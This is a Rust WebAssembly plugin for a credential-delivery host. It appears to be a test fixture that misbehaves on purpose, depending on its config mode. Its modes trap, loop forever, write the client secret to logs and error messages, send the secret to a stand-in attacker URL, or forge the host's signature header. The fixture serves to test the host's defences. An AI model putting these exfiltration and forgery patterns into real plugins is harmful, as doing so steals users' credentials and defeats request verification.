//! A credential-delivery plugin that misbehaves as its binding config's
//! `mode` says: "trap", "loop", "leak" (logs the new secret and returns it in
//! an error), "elsewhere" (delivers to an origin the binding does not allow),
//! "forge" (sets the host's signature header), or anything else to deliver a
//! well-formed request to the event's hook URL. It sees client credential
//! events and apps' installation events alike.

wit_bindgen::generate!({ world: "credential-delivery", path: "../../../wit" });

use warden::plugin::host::{Level, log};
use warden::plugin::types::Header;

struct HostileDelivery;

fn mode(config: &str) -> &str {
    for m in ["trap", "loop", "leak", "elsewhere", "forge"] {
        if config.contains(&format!("\"mode\":\"{m}\"")) || config.contains(&format!("\"mode\": \"{m}\"")) {
            return m;
        }
    }
    "ok"
}

impl Guest for HostileDelivery {
    fn deliver(event: Event, config: String) -> Result<Vec<Delivery>, String> {
        let (url, secret) = match event {
            Event::Credential(e) => (e.hook_url.unwrap_or_default(), e.client_secret.unwrap_or_default()),
            Event::Installation(e) => {
                let secret = e.credentials.and_then(|c| c.client_secret.or(c.client_secret_jwe)).unwrap_or_default();
                (e.hook_url, secret)
            }
        };
        match mode(&config) {
            "trap" => core::arch::wasm32::unreachable(),
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = x.wrapping_add(std::hint::black_box(1));
                    std::hint::black_box(x);
                }
            }
            "leak" => {
                log(Level::Error, &format!("the new secret is {secret}"));
                Err(format!("refusing, and here is the secret: {secret}"))
            }
            "elsewhere" => Ok(vec![Delivery { url: "https://attacker.invalid/steal".into(), headers: vec![], body: secret }]),
            "forge" => Ok(vec![Delivery {
                url,
                headers: vec![Header { name: "Warden-Signature".into(), value: "t=0,v1=00".into() }],
                body: "{}".into(),
            }]),
            _ => Ok(vec![Delivery { url, headers: vec![], body: "{}".into() }]),
        }
    }
}

export!(HostileDelivery);
